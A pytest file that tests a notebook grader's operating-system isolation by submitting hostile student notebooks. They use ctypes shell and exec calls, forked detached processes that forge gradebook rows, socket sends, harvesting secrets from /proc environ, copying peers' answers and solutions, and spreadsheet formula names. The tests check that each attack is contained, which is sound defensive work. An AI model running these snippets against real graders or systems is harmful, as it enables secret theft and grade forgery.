"""Hostile submissions against the grader's operating-system isolation, graded in one real run.

Each attack is a real one a student could hand in (``ctypes`` calls into the C library,
``_posixsubprocess``, a detached process that edits the gradebook later, raw and TCP sockets,
reading the environment, the other submissions and the solutions). Each is checked from
outside: files it would have created, a TCP/UDP listener of this test process, a secret planted
in the grader's environment, the other students' answers, the course tree's bytes, ``/proc``
for leftover processes, and the manifest after the grader has finished. With the audit hook
alone (the grader before isolation) most of these tests fail: the attacks succeed.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from support import ROOT, cli
from support.traps import SocketTrap

from defection_course.grading import isolation, layout, manifest, reports

EXERCISE = ROOT / "exercises" / "01_defection_history.ipynb"
SOLUTION = ROOT / "solutions" / "01_defection_history.ipynb"
SECRET = "sk-test-7d41c0ffee-not-a-real-token"
PEER_ANSWER = "PEER-ANSWER-4b8e: the peer's own written words"
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not isolation.probe().available, reason="no OS isolation on this machine"),
]


VAR = "answer_q1_7"  #: the written answer's variable in lesson 1


def _solution(extra: str = "", q17: str | None = None) -> str:
    """The solution with outputs cleared, an extra first code cell, and (optionally) another q1_7 cell."""
    nb = copy.deepcopy(nbformat.read(SOLUTION, as_version=4))
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
        q = cell.metadata.get("defection_course", {}).get("question")
        if q17 is not None and q == "q1_7" and "answer" in cell.metadata.get("tags", []):
            assert cell.source.startswith(VAR + " = ")
            cell.source = q17
    if extra:
        nb.cells.insert(1, nbformat.v4.new_code_cell(extra))
    return nbformat.writes(nb)


LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def _attacks(mark: Path, subs: Path, out: Path, port: int, uport: int) -> dict[str, str]:
    gradebook = str(out / "gradebook.csv").encode()
    var = VAR
    return {
        "ctypes_system": LIBC + f"libc.system(b'touch {mark}/system_ran')\n",
        "libc_open_write": LIBC
        + f"fd = libc.open(b'{mark}/libc_wrote', os.O_WRONLY | os.O_CREAT, 0o644)\n"
        + "libc.write(fd, b'pwned', 5)\n"
        + f"fd = libc.open(b'{ROOT / 'data' / 'arrivals_annual.csv'}', os.O_WRONLY | os.O_TRUNC)\n"
        + "libc.write(fd, b'hacked', 6)\n",
        "ctypes_fork": LIBC
        + "if libc.fork() == 0:\n"
        + f"    fd = libc.open(b'{mark}/fork_child', os.O_WRONLY | os.O_CREAT, 0o644)\n"
        + "    libc._exit(0)\n",
        "posixsubprocess": "import _posixsubprocess, os\n"
        + "r, w = os.pipe()\n"
        + f"args = ([b'/bin/touch', b'{mark}/posixsub_ran'], [b'/bin/touch'], True, (), None, None,\n"
        + "        -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None)\n"
        + "try:\n    _posixsubprocess.fork_exec(*args, False)\n"
        + "except TypeError:\n    _posixsubprocess.fork_exec(*args)\n",
        "ctypes_exec": LIBC
        + "argv = (ctypes.c_char_p * 4)(b'/bin/sh', b'-c', "
        + f"b'touch {mark}/exec_ran', None)\nlibc.execv(b'/bin/sh', argv)\n",
        "detached_forger": LIBC
        + "import time\n"
        + "if libc.fork() == 0:\n"
        + "    libc.setsid()\n"
        + "    if libc.fork() == 0:\n"
        + "        for _ in range(120):\n"
        + f"            if os.path.exists({str(out / 'gradebook.csv')!r}):\n"
        + "                break\n"
        + "            libc.usleep(500000)\n"
        + "        libc.sleep(1)\n"
        + f"        fd = libc.open({gradebook!r}, os.O_WRONLY | os.O_APPEND)\n"
        + "        libc.write(fd, b'forged,graded,1,1,1,1,1,1,4,,,,,,\\n', 35)\n"
        + "    libc._exit(0)\n"
        + "if libc.fork() == 0:\n"  # a plain sleeper: is anything of the kernel left afterwards?
        + "    libc.setsid()\n    libc.sleep(90)\n    libc._exit(0)\n"
        + f"libc.system(b'(sleep 2; echo forged >> {gradebook.decode()}) > /dev/null 2>&1 &')\n",
        "sockets": "import socket\nerrors = []\n"
        + "for family, kind, proto, where in [\n"
        + f"    (socket.AF_INET, socket.SOCK_STREAM, 0, ('127.0.0.1', {port})),\n"
        + f"    (socket.AF_INET, socket.SOCK_DGRAM, 0, ('127.0.0.1', {uport})),\n"
        + "    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ('127.0.0.1', 0)),\n"
        + "    (socket.AF_PACKET, socket.SOCK_RAW, 0, None),\n"
        + "]:\n"
        + "    try:\n"
        + "        s = socket.socket(family, kind, proto)\n"
        + "        if where and kind == socket.SOCK_STREAM:\n"
        + "            s.connect(where); s.sendall(b'exfiltrated')\n"
        + "        elif where:\n"
        + "            s.sendto(b'exfiltrated', where)\n"
        + "    except OSError as exc:\n"
        + "        errors.append(exc)\n"
        + LIBC
        + "fd = libc.socket(2, 1, 0)\n"
        + f"addr = bytes([2, 0, {port >> 8}, {port & 255}, 127, 0, 0, 1]) + bytes(8)\n"
        + "libc.connect(fd, addr, 16)\nlibc.write(fd, b'exfiltrated', 11)\n",
        "reads_environ": "import os\nfound = []\n"
        + "found.append(os.environ.get('COURSE_FAKE_SECRET', ''))\n"
        + "try:\n    pids = os.listdir('/proc')\nexcept OSError as exc:\n"
        + "    pids = [str(os.getppid()), str(os.getppid() - 1), 'self']; found.append(repr(exc))\n"
        + "for pid in pids:\n"
        + "    try:\n"
        + "        found.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))\n"
        + "    except OSError:\n"
        + "        pass\n"
        + f"{var} = 'environment: ' + ' '.join(found)\n",
        "reads_peers_and_solutions": LIBC
        + "found = []\n"
        + f"for folder in ({str(subs)!r}, {str(ROOT / 'solutions')!r}):\n"
        + "    try:\n"
        + "        for name in os.listdir(folder):\n"
        + "            found.append(open(os.path.join(folder, name), encoding='utf-8').read())\n"
        + "    except OSError as exc:\n"
        + "        found.append(repr(exc))\n"
        + "buf = ctypes.create_string_buffer(200000)\n"
        + f"fd = libc.open(b'{subs}/correct.ipynb', os.O_RDONLY)\n"
        + "libc.read(fd, buf, 200000)\nfound.append(buf.value.decode(errors='replace'))\n"
        + f"fd = libc.open(b'{SOLUTION}', os.O_RDONLY)\n"
        + "libc.read(fd, buf, 200000)\nfound.append(buf.value.decode(errors='replace'))\n"
        + f"{var} = 'copied: ' + ' '.join(found)\n",
    }


class Listener(SocketTrap[str]):
    """A TCP and a UDP socket on 127.0.0.1 that record anything a submission sends them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        super().__init__([self.tcp, self.udp])

    def read(self, sock: socket.socket) -> str:
        if sock is self.tcp:
            conn, _ = sock.accept()
            conn.close()
            return "tcp connection"
        return "udp " + sock.recv(100).decode(errors="replace")


def _tree_hash(*folders: Path) -> str:
    h = hashlib.sha256()
    for folder in folders:
        for p in sorted(folder.rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(str(p.relative_to(ROOT)).encode())
                h.update(p.read_bytes())
    return h.hexdigest()


def _processes_mentioning(text: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if text in cmdline:
                found.append(f"{entry.name}: {cmdline[:120]}")
    return found


CSV_NAMES = ['=HYPERLINK("example.invalid","click")', "+cmd", "-2+3", "@SUM(A1)", "\tTAB"]
COURSE = (ROOT / "data", ROOT / "defection_course", ROOT / "solutions", ROOT / "exercises")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("isolation")
    subs, out, mark, scratch = base / "subs", base / "results", base / "marks", base / "tmp"
    for folder in (subs, mark, scratch):
        folder.mkdir()
    listener = Listener()
    port, uport = listener.tcp.getsockname()[1], listener.udp.getsockname()[1]
    (subs / "correct.ipynb").write_text(_solution(q17=f"{VAR} = {PEER_ANSWER!r}\n"), encoding="utf-8")
    for name, code in _attacks(mark, subs, out, port, uport).items():
        leak = name.startswith("reads_")  # these put what they found in their written answer
        text = _solution(q17=code) if leak else _solution(code)
        (subs / f"{name}.ipynb").write_text(text, encoding="utf-8")
    (subs / f"{CSV_NAMES[0]}.ipynb").write_text(_solution(), encoding="utf-8")
    for name in CSV_NAMES[1:]:
        (subs / f"{name}.ipynb").write_text("", encoding="utf-8")  # rejected: no kernel needed
    nbgrader = subs / "nb_student" / "01_defection_history"
    nbgrader.mkdir(parents=True)
    (nbgrader / "01_defection_history.ipynb").write_text(_solution(), encoding="utf-8")
    (nbgrader / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC", encoding="utf-8")
    (subs / "lastfirst_12345_67890_01_defection_history.ipynb").write_text(_solution(), encoding="utf-8")
    (subs / "dupe_111_222_01_defection_history.ipynb").write_text("", encoding="utf-8")
    (subs / "dupe_111_333_01_defection_history-1.ipynb").write_text("", encoding="utf-8")
    before = _tree_hash(*COURSE)
    env = {**os.environ, "COURSE_FAKE_SECRET": SECRET, "TMPDIR": str(scratch)}
    cmd = [sys.executable, "-m", "defection_course", "grade", str(EXERCISE), str(subs), "--out", str(out)]
    started = time.monotonic()
    proc = subprocess.run(
        [*cmd, "--workers", "2", "--cell-timeout", "10", "--notebook-timeout", "60"],
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )
    seconds = time.monotonic() - started
    gradebook = (out / "gradebook.csv").read_bytes() if (out / "gradebook.csv").exists() else b""
    time.sleep(5)  # give a detached forger time to strike
    listener.close()
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as fh:
        rows = {reports.unneutralise(r["student"]): r for r in csv.DictReader(fh)}
    yield {
        "proc": proc,
        "out": out,
        "rows": rows,
        "mark": mark,
        "subs": subs,
        "gradebook": gradebook,
        "before": before,
        "after": _tree_hash(*COURSE),
        "received": listener.received,
        "leftover": _processes_mentioning(str(base)),
        "seconds": seconds,
    }


def _scores(row):
    return [row[f"q1_{i}"] for i in range(1, 7)]


def test_the_run_succeeds_and_says_how_it_was_isolated(run):
    proc = run["proc"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "Isolation: Landlock ABI" in proc.stdout and "seccomp" in proc.stdout
    store = json.loads((run["out"] / "graded.json").read_text(encoding="utf-8"))
    assert store["isolation"].startswith("Landlock ABI")
    assert manifest.load(run["out"])["isolation"] == store["isolation"]


ATTACKS = [
    ("ctypes_system", "system_ran", "start a process"),
    ("libc_open_write", "libc_wrote", "ran isolated by the operating system"),
    ("ctypes_fork", "fork_child", "start a process (fork)"),
    ("posixsubprocess", "posixsub_ran", "start a process (fork)"),
    ("ctypes_exec", "exec_ran", "run a program (execve)"),
    ("detached_forger", None, "start a process (fork)"),
    ("sockets", None, "open a network socket (socket(AF_INET)) x"),
]


@pytest.mark.parametrize("name,leftover,reason", ATTACKS)
def test_each_attack_is_contained_with_a_reason_and_the_rest_is_graded(run, name, leftover, reason):
    row = run["rows"][name]
    assert row["status"] == "graded", row
    assert _scores(row) == ["1"] * 6, row  # the attack cell failed; every answer was still graded
    assert reason in row["reason"], row["reason"]
    if leftover:
        assert not (run["mark"] / leftover).exists(), f"{name} created a file outside its sandbox"


def test_nothing_reached_the_network(run):
    assert run["received"] == []
    assert "socket(AF_PACKET)" in run["rows"]["sockets"]["reason"]


def test_the_environment_of_the_grader_is_out_of_reach(run):
    assert _scores(run["rows"]["reads_environ"]) == ["1"] * 6
    for path in run["out"].rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(encoding="utf-8", errors="replace"), path
    review = (run["out"] / "review" / "q1_7.md").read_text(encoding="utf-8")
    assert "## Student: reads_environ" in review and "environment:" in review  # the answer was read


def test_other_submissions_and_the_solutions_are_out_of_reach(run):
    review = (run["out"] / "review" / "q1_7.md").read_text(encoding="utf-8")
    mine = review.split("## Student: reads_peers_and_solutions")[1].split("## Student:")[0]
    assert "copied:" in mine and "PermissionError" in mine  # the attack ran, and was refused
    assert "PEER-ANSWER-4b8e" not in mine
    assert "Marking rubric" not in mine and "BEGIN SOLUTION" not in mine
    assert review.count("PEER-ANSWER-4b8e") == 1  # the peer's own answer, under the peer's name


def test_the_course_tree_is_byte_identical(run):
    assert run["before"] == run["after"]


def test_no_process_of_the_run_is_left(run):
    assert run["leftover"] == []


def test_the_gradebook_is_unchanged_after_grading_and_matches_its_manifest(run):
    out = run["out"]
    assert (out / "gradebook.csv").read_bytes() == run["gradebook"]
    assert "forged" not in run["rows"]
    digest = run["proc"].stdout.split("SHA-256 ")[1].split(")")[0]
    assert manifest.verify(out, digest) == []
    verified = cli.run("verify", str(out), "--sha256", digest)  # in this process (tests/support/cli.py)
    assert verified.returncode == 0 and "every file matches" in verified.stdout


def test_verify_notices_a_changed_added_or_missing_file(run, tmp_path):
    import shutil

    copy_ = tmp_path / "results"
    shutil.copytree(run["out"], copy_)
    assert manifest.verify(copy_) == []
    with (copy_ / "gradebook.csv").open("a", encoding="utf-8") as fh:
        fh.write("forged,graded\n")
    (copy_ / "feedback" / "intruder.md").write_text("x", encoding="utf-8")
    (copy_ / "feedback" / "correct.md").unlink()
    problems = manifest.verify(copy_, "0" * 64)
    assert "gradebook.csv was changed after grading" in problems
    assert "feedback/intruder.md was added after grading" in problems
    assert "feedback/correct.md is missing" in problems
    assert any("manifest.json itself" in p for p in problems)
    failed = cli.run("verify", str(copy_))
    assert failed.returncode == 1 and "changed after grading" in failed.stderr


def test_formula_names_are_neutralised_and_round_trip_to_feedback_files(run):
    with (run["out"] / "gradebook.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(reports.FORMULA_START)], "a cell a spreadsheet would run"
    from defection_course.grading.identity import identity

    for name in CSV_NAMES:
        who = identity(name)  # "\tTAB" is the student "TAB": white space at the ends is no part of a name
        assert who.display in run["rows"], name
        assert reports.neutralise(who.display) in cells
        assert (run["out"] / "feedback" / f"{who.filename}.md").exists()  # a safe name of its own
    assert _scores(run["rows"][CSV_NAMES[0]]) == ["1"] * 6
    assert reports.unneutralise(reports.neutralise("'=x")) == "'=x"


def test_nbgrader_and_lms_layouts_give_one_row_per_student(run):
    rows = run["rows"]
    assert _scores(rows["nb_student"]) == ["1"] * 6
    assert _scores(rows["lastfirst"]) == ["1"] * 6
    assert rows["dupe"]["status"] == "rejected"
    assert "2 files for this student" in rows["dupe"]["reason"]
    assert "dupe_111_333_01_defection_history-1.ipynb" in rows["dupe"]["reason"]
    assert not any(k.startswith(("dupe_", "lastfirst_", "01_defection")) for k in rows)
    store = json.loads((run["out"] / "graded.json").read_text(encoding="utf-8"))
    sources = {s["student"]: s["source"] for s in store["students"]}
    assert sources["nb_student"] == "nb_student/01_defection_history/01_defection_history.ipynb"


def test_layout_discovery_of_an_nbgrader_course_folder(tmp_path):
    for student in ("alice", "bob"):
        folder = tmp_path / "submitted" / student / "ps1"
        folder.mkdir(parents=True)
        (folder / "02_social_origins.ipynb").write_text("{}", encoding="utf-8")
        (folder / "scratch.ipynb").write_text("{}", encoding="utf-8")
    (tmp_path / "submitted" / "bob" / "ps1" / ".ipynb_checkpoints").mkdir()
    (tmp_path / "submitted" / "bob" / "ps1" / ".ipynb_checkpoints" / "02_social_origins.ipynb").write_text(
        "{}"
    )
    entries = layout.discover(tmp_path, "02_social_origins.ipynb")
    assert [(e.student, len(e.paths), e.layout) for e in entries] == [
        ("alice", 1, "nbgrader"),
        ("bob", 1, "nbgrader"),
    ]
    moodle = tmp_path / "moodle"
    moodle.mkdir()
    (moodle / "Jane Doe_4711_assignsubmission_file_02_social_origins.ipynb").write_text("{}")
    (moodle / "kimlee_1_2_02_social_origins.ipynb").write_text("{}")
    (moodle / "kimlee_9_3_02_social_origins.ipynb").write_text("{}")  # another kimlee: ids kept apart
    found = {e.student: e.layout for e in layout.discover(moodle, "02_social_origins.ipynb")}
    assert found == {"Jane Doe": "moodle", "kimlee_1": "canvas", "kimlee_9": "canvas"}


def test_the_self_test_applies_the_isolation_and_it_holds(tmp_path):
    assert isolation.self_test(tmp_path) == ""
    assert (tmp_path / "inside" / "ok").read_text() == "ok" and not (tmp_path / "escaped").exists()


def test_fails_closed_without_isolation_unless_the_teacher_opts_out(tmp_path, monkeypatch):
    from defection_course.errors import CourseError
    from defection_course.grading import batch

    monkeypatch.setattr(
        isolation, "probe", lambda: isolation.Support(False, 0, "x86_64", "this kernel has no Landlock")
    )
    with pytest.raises(CourseError, match=r"cannot isolate.*no Landlock.*--no-isolation"):
        batch.isolation_status(True)
    assert batch.isolation_status(False).startswith("OFF (--no-isolation)")


def test_a_process_left_in_the_run_folder_is_found_and_ended(tmp_path):
    from defection_course.grading import batch

    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", str(tmp_path)])
    try:
        time.sleep(0.2)
        assert batch.end_every_kernel(tmp_path) == 1
        assert sleeper.wait(timeout=5) == -9
        assert batch.end_every_kernel(tmp_path) == 0
    finally:
        sleeper.kill()


def test_a_kernel_that_cannot_isolate_itself_runs_nothing(tmp_path, monkeypatch):
    """Break Landlock inside the kernel process (a sitecustomize on its path): it must not run."""
    from defection_course.grading import runner

    (tmp_path / "sitecustomize.py").write_text(
        "from defection_course.grading import isolation\n"
        "def _broken(*args, **kwargs):\n"
        "    raise OSError(95, 'simulated: Landlock refused')\n"
        "isolation.landlock = _broken\n",
        encoding="utf-8",
    )
    original = runner.kernel_env

    def env(root, limits, report):
        base = original(root, limits, report)
        return {**base, "PYTHONPATH": f"{tmp_path}:{base['PYTHONPATH']}"}

    monkeypatch.setattr(runner, "kernel_env", env)
    submission = tmp_path / "alice.ipynb"
    submission.write_text(_solution(f"open({str(tmp_path / 'ran')!r}, 'w')\n"), encoding="utf-8")
    graded = runner.grade_submission(EXERCISE, submission, runner.Limits())
    assert graded.status == "error"
    assert "could not be isolated by the operating system, so nothing was run" in graded.reason
    assert not (tmp_path / "ran").exists()
